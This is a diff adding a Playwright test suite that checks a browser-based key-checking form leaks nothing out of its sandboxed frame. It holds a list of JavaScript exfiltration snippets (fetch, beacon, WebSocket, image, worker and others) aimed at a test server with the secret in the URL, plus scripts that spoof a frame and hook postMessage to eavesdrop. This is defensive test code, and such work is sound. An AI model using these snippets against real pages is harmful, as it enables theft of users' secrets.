@@ -1,0 +1,318 @@
+"""Nothing that is typed leaves the box it is typed into."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import BrowserContext, Page, expect
+
+from tests.browser.conftest import CountingServer, serve
+from tests.browser.form import Form
+
+OpenForm = Callable[[str], Form]
+
+MARK = "SampMark5ecretMark5ecret"
+"""Typed as a secret; must be found nowhere but in its field."""
+
+LEAKS = {
+    "fetch": "fetch(url).catch(() => 0)",
+    "xhr": "new Promise(r => { const x = new XMLHttpRequest(); x.onloadend = r; "
+    "x.open('GET', url); x.send() })",
+    "beacon": "navigator.sendBeacon(url, 'x')",
+    "image": "new Promise(r => { const i = new Image(); i.onload = i.onerror = r; i.src = url })",
+    "script": "new Promise(r => { const s = document.createElement('script'); "
+    "s.onload = s.onerror = r; s.src = url; document.head.append(s) })",
+    "style": "new Promise(r => { const s = document.createElement('link'); s.rel = 'stylesheet'; "
+    "s.onload = s.onerror = r; s.href = url; document.head.append(s) })",
+    "import": "import(url).catch(() => 0)",
+    "websocket": "new Promise(r => { const w = new WebSocket(url.replace('http', 'ws')); "
+    "w.onerror = w.onopen = r })",
+    "eventsource": "new Promise(r => { const e = new EventSource(url); e.onerror = e.onopen = r })",
+    "form": "(() => { const f = document.createElement('form'); f.action = url; f.method = 'post'; "
+    "document.body.append(f); f.submit() })()",
+    "popup": "window.open(url)",
+    "frame": "new Promise(r => { const f = document.createElement('iframe'); f.src = url; "
+    "f.onload = r; document.body.append(f) })",
+    "blob worker": "new Promise(r => { "
+    "const text = `fetch('${url}').finally(() => postMessage(0))`; "
+    "const w = new Worker(URL.createObjectURL(new Blob([text]))); w.onmessage = w.onerror = r })",
+}
+"""Ways out, as a script in the frame would try them; `url` carries the secret."""
+
+
+def make_attempt(way: str) -> str:
+    return f"async (url) => {{ try {{ await ({way}) }} catch {{ return }} }}"
+
+
+@pytest.fixture
+def filled(open_form: OpenForm) -> Form:
+    """A form with a marked secret typed and checked."""
+    form = open_form("check-keys")
+    form.start()
+    form.field("secret-1").fill(MARK)
+    form.field("api_key-1").fill("SampMarkKeySampMarkKeyS")
+    form.check()
+    return form
+
+
+def test_no_request_leaves_while_keys_are_typed_and_checked(
+    open_form: OpenForm, page: Page, site: CountingServer
+) -> None:
+    form = open_form("check-keys")
+    form.start()
+    page.wait_for_load_state("networkidle")
+    seen: list[str] = []
+    page.on("request", lambda request: seen.append(request.url))
+    site.requests.clear()
+    form.field("api_key-1").press_sequentially(MARK)
+    form.field("secret-1").press_sequentially(MARK)
+    form.check()
+    form.button("+ Add extra key").click()
+    form.field("secret-2").fill(MARK)
+    form.check()
+    assert form.codes("secret-2")
+    assert site.requests == []
+    assert [url for url in seen if not url.startswith("blob:")] == []
+
+
+def test_keys_are_checked_without_a_network(open_form: OpenForm, context: BrowserContext) -> None:
+    form = open_form("check-keys")
+    form.start()
+    context.set_offline(True)
+    form.field("secret-1").fill(MARK)
+    form.check()
+    assert form.codes("api_key-1") == ["empty"]
+
+
+@pytest.mark.parametrize("way", LEAKS)
+def test_form_frame_is_refused(way: str, filled: Form, stranger: CountingServer) -> None:
+    filled.frame.evaluate(make_attempt(LEAKS[way]), f"{stranger.url}?leak={MARK}")
+    assert stranger.requests == []
+
+
+def test_engine_frame_is_refused_every_way(filled: Form, stranger: CountingServer) -> None:
+    engine = filled.page.frame("tutorial-engine")
+    assert engine
+    for way in LEAKS.values():
+        engine.evaluate(make_attempt(way), f"{stranger.url}?leak={MARK}")
+    assert stranger.requests == []
+
+
+def test_python_is_refused_every_way(filled: Form, stranger: CountingServer) -> None:
+    (worker,) = [each for each in filled.page.workers if each.url.startswith("blob:")]
+    for name in ("fetch", "xhr", "import", "websocket", "eventsource", "blob worker"):
+        worker.evaluate(make_attempt(LEAKS[name]), f"{stranger.url}?leak={MARK}")
+    assert stranger.requests == []
+
+
+@pytest.mark.parametrize("way", LEAKS)
+def test_same_way_out_works_without_the_seal(
+    way: str, page: Page, stranger: CountingServer, tmp_path: Path
+) -> None:
+    """The control: each way does reach the stranger where no seal is."""
+    folder = tmp_path / "unsealed"
+    folder.mkdir()
+    (folder / "index.html").write_text("<!doctype html><title>No seal</title>")
+    with serve(folder) as unsealed:
+        page.goto(unsealed.url)
+        page.evaluate(make_attempt(LEAKS[way]), f"{stranger.url}?leak={MARK}")
+        stranger.called.wait(timeout=10)
+    assert any(MARK in request for request in stranger.requests)
+
+
+def test_frame_cannot_navigate_itself_away(filled: Form, stranger: CountingServer) -> None:
+    """The page's policy refuses it, and the browser says so to the page."""
+    filled.page.evaluate(
+        """() => { window.refusal = new Promise((resolve) => document.addEventListener(
+          'securitypolicyviolation', (event) => resolve(event.effectiveDirective))); }"""
+    )
+    filled.frame.evaluate(f"location = '{stranger.url}?leak={MARK}'")
+    assert filled.page.evaluate("refusal") == "frame-src"
+    assert stranger.requests == []
+
+
+def test_frame_cannot_navigate_the_page(filled: Form, stranger: CountingServer) -> None:
+    before = filled.page.url
+    filled.frame.evaluate(f"try {{ top.location = '{stranger.url}?leak={MARK}' }} catch {{ 0 }}")
+    filled.page.evaluate("fetch(location.href).then(() => 0)")
+    assert filled.page.url == before
+    assert stranger.requests == []
+
+
+def test_frame_has_no_storage_and_no_origin(filled: Form) -> None:
+    reach = "(name) => { try { return typeof window[name].length } catch (e) { return e.name } }"
+    assert filled.frame.evaluate(reach, "localStorage") == "SecurityError"
+    assert filled.frame.evaluate(reach, "sessionStorage") == "SecurityError"
+    assert filled.frame.evaluate("self.origin") == "null"
+    cookie = "() => { try { return document.cookie } catch (e) { return e.name } }"
+    assert filled.frame.evaluate(cookie) == "SecurityError"
+
+
+def test_page_cannot_see_into_the_frame(filled: Form) -> None:
+    found = filled.page.evaluate(
+        """() => {
+          const frame = document.querySelector('check-keys > iframe');
+          const tries = [() => frame.contentDocument, () => frame.contentWindow.document,
+            () => frame.contentWindow.location.href, () => frame.getSVGDocument(),
+            () => frame.contentWindow.eval('1')];
+          return tries.map((look) => { try { return look() } catch (e) { return e.name } });
+        }"""
+    )
+    assert found == [None, "SecurityError", "SecurityError", None, "SecurityError"]
+
+
+def test_page_hears_no_key_and_no_message_with_what_is_typed(
+    open_form: OpenForm, page: Page
+) -> None:
+    page.add_init_script(
+        """if (self === top) {
+          window.heard = [];
+          for (const kind of ['keydown', 'keyup', 'input', 'paste', 'focusin', 'message',
+            'beforeinput', 'compositionend', 'selectionchange']) {
+            window.addEventListener(kind, (event) => window.heard.push(
+              kind + ':' + (event.key ?? JSON.stringify(event.data) ?? '')), true);
+          }
+          const post = MessagePort.prototype.postMessage;
+          MessagePort.prototype.postMessage = function (...all) {
+            window.heard.push('port:' + JSON.stringify(all)); return post.apply(this, all);
+          };
+        }"""
+    )
+    form = open_form("check-keys")
+    form.start()
+    form.field("secret-1").press_sequentially(MARK)
+    form.check()
+    heard: list[str] = page.evaluate("heard")
+    assert any(entry.startswith("message:") for entry in heard), "the listener did listen"
+    assert not [entry for entry in heard if MARK in entry or "key" in entry.split(":")[0]]
+
+
+def test_page_script_in_the_engines_place_gets_nothing(open_form: OpenForm, page: Page) -> None:
+    """A page script plants a frame of the engine's name, of its own origin, and listens."""
+    form = open_form("check-keys")
+    plant_engine(page)
+    form.field("secret-1").fill(MARK)
+    page.evaluate("asked")
+    form.button("Check").click()
+    expect(form.inside.locator("form")).to_have_attribute("aria-busy", "true")
+    caught: list[str] = page.evaluate("caught")
+    assert not [entry for entry in caught if MARK in entry]
+
+
+def plant_engine(page: Page) -> None:
+    page.evaluate(
+        """() => {
+          window.caught = [];
+          const fake = document.createElement('iframe');
+          fake.name = 'tutorial-engine';
+          document.body.prepend(fake);
+          window.asked = new Promise((resolve) => { window.tell = resolve; });
+          fake.contentWindow.addEventListener('message', (event) => {
+            window.tell();
+            window.caught.push(JSON.stringify(event.data));
+            const { port1, port2 } = new MessageChannel();
+            port1.onmessage = ({ data }) => window.caught.push(JSON.stringify(data));
+            event.source.postMessage({ kind: 'connected' }, '*', [port2]);
+          });
+        }"""
+    )
+
+
+def test_page_script_in_a_sealed_frame_in_the_engines_place_does_not_run(
+    open_form: OpenForm, page: Page
+) -> None:
+    """A planted frame has no origin either, but its script is not one the policy knows."""
+    open_form("check-keys")
+    page.evaluate(
+        """() => new Promise((resolve) => {
+          window.caught = [];
+          addEventListener('message', ({ data }) => window.caught.push(data));
+          const fake = document.createElement('iframe');
+          fake.name = 'tutorial-engine';
+          fake.setAttribute('sandbox', 'allow-scripts');
+          fake.srcdoc = "<script>parent.postMessage('runs', '*')</" + "script>";
+          fake.onload = () => setTimeout(resolve);
+          document.body.prepend(fake);
+        })"""
+    )
+    assert "runs" not in page.evaluate("caught")
+
+
+def test_secret_is_nowhere_around_the_frame(filled: Form, page: Page) -> None:
+    around = page.evaluate(
+        """() => JSON.stringify([document.documentElement.outerHTML, location.href, document.title,
+          window.name, document.cookie, {...localStorage}, {...sessionStorage}, history.state,
+          performance.getEntries().map((entry) => entry.name)])"""
+    )
+    assert MARK not in around
+
+
+def test_secret_is_not_on_disk(
+    browser_type: Any,
+    browser_type_launch_args: dict[str, Any],
+    site: CountingServer,
+    tmp_path: Path,
+) -> None:
+    profile = tmp_path / "profile"
+    with browser_type.launch_persistent_context(
+        str(profile), **browser_type_launch_args
+    ) as persistent:
+        page = persistent.pages[0]
+        page.goto(f"{site.url}tools/check-keys/")
+        form = Form(page, "check-keys")
+        form.wait_until_shown()
+        form.start()
+        form.field("secret-1").fill(MARK)
+        form.check()
+        page.goto(f"{site.url}tools/")
+    files = [path for path in profile.rglob("*") if path.is_file()]
+    wanted = [MARK.encode(), MARK.encode("utf-16-le")]
+    assert files
+    assert [p for p in files if any(mark in p.read_bytes() for mark in wanted)] == []
+
+
+def test_form_is_locked_outside_of_a_sealed_frame(page: Page, site: CountingServer) -> None:
+    """The frame's document, opened as a page of the site, takes no input."""
+    page.goto(f"{site.url}tools/check-keys/")
+    base = page.locator("#tutorial-runtime").get_attribute("data-base") or ""
+    source = page.request.get(f"{site.url}tools/check-keys/{base}check-keys.frame").text()
+    address = site.url + "unsealed.html"
+    page.route(address, lambda route: route.fulfill(body=source, content_type="text/html"))
+    page.goto(address)
+    expect(page.get_by_role("button", name="Check", exact=True)).to_be_disabled()
+
+
+@pytest.mark.parametrize(
+    "file", ["worker.js.gzip", "pyodide.asm.wasm.gzip", "python_stdlib.zip", "pyodide-lock.json"]
+)
+def test_runtime_with_a_flipped_byte_is_refused_and_named(
+    file: str, open_form: OpenForm, page: Page
+) -> None:
+    def flip(route: Any) -> None:
+        body = bytearray(route.fetch().body())
+        body[len(body) // 2] ^= 1
+        route.fulfill(body=bytes(body))
+
+    page.route(f"**/{file}", flip)
+    form = open_form("check-keys")
+    form.field("secret-1").fill(MARK)
+    form.wait_until("failed")
+    expect(form.status_line).to_contain_text(f"The file {file} is not the one")
+    assert len(page.workers) <= 1, "only the site's search may run a worker"
+    expect(form.field("secret-1")).to_have_value(MARK)
+
+
+def test_frame_document_with_a_flipped_byte_is_not_shown(page: Page, site: CountingServer) -> None:
+    page.route(
+        "**/check-keys.frame",
+        lambda route: route.fulfill(body=route.fetch().text().replace("Check", "Czeck")),
+    )
+    page.goto(f"{site.url}tools/check-keys/")
+    expect(page.get_by_role("alert")).to_contain_text("not the one this page was built with")
+    assert page.locator("check-keys > iframe").count() == 0
+    page.unroute_all()
+    page.get_by_role("button", name="Try again").click()
+    Form(page, "check-keys").wait_until_shown()
